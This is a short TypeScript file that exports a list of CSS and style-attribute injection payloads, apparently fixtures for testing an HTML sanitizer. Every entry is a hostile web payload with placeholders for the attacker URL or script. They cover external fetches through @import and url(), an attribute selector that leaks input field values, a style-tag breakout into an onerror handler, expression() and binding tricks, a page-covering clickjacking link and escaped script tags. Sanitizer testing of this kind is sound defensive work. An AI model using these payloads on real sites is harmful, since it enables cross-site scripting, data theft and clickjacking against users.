/** Styles, and ways out of them. */
export const styles = {
  'a style that imports': '<style>@import "ASK";</style>',
  'a style with a picture': '<style>*{background:url(ASK)}</style>',
  'a style with a picture in escapes': '<style>*{background:u\\72l(ASK)}</style>',
  'a style with a set of pictures': '<style>*{background:image-set("ASK" 1x)}</style>',
  'a style with a letter':
    '<style>@font-face{font-family:any;src:url(ASK)}*{font-family:any}</style>',
  'a style that reads a field':
    '<style>input[value^="a"],:root{--x:url(ASK);cursor:var(--x),auto}</style>',
  'a style that ends within a text': '<style>p{content:"</style><img src=x onerror=RUN>"}</style>',
  'a style with a namespace':
    '<style>@charset "any";@namespace url(ASK);*{list-style:url(ASK)}</style>',
  'a style attribute with a picture': '<b style="background:url(ASK)">any</b>',
  'a style attribute that is computed': '<b style="width:expression(RUN)">any</b>',
  'a style attribute that binds': '<b style="-moz-binding:url(ASK);behavior:url(ASK)">any</b>',
  'a style attribute over the whole page':
    '<a href="ASK" style="position:fixed;inset:0;z-index:99999">any</a>',
  'the end of a rule': '}*{background:url(ASK)}x{',
  'the end of a text in a style': '");background:url("ASK',
  'the end of a comment in a style': '*/*{background:url(ASK)}/*',
  'an escape of a style': '\\3c script\\3e RUN\\3c /script\\3e',
} as const;
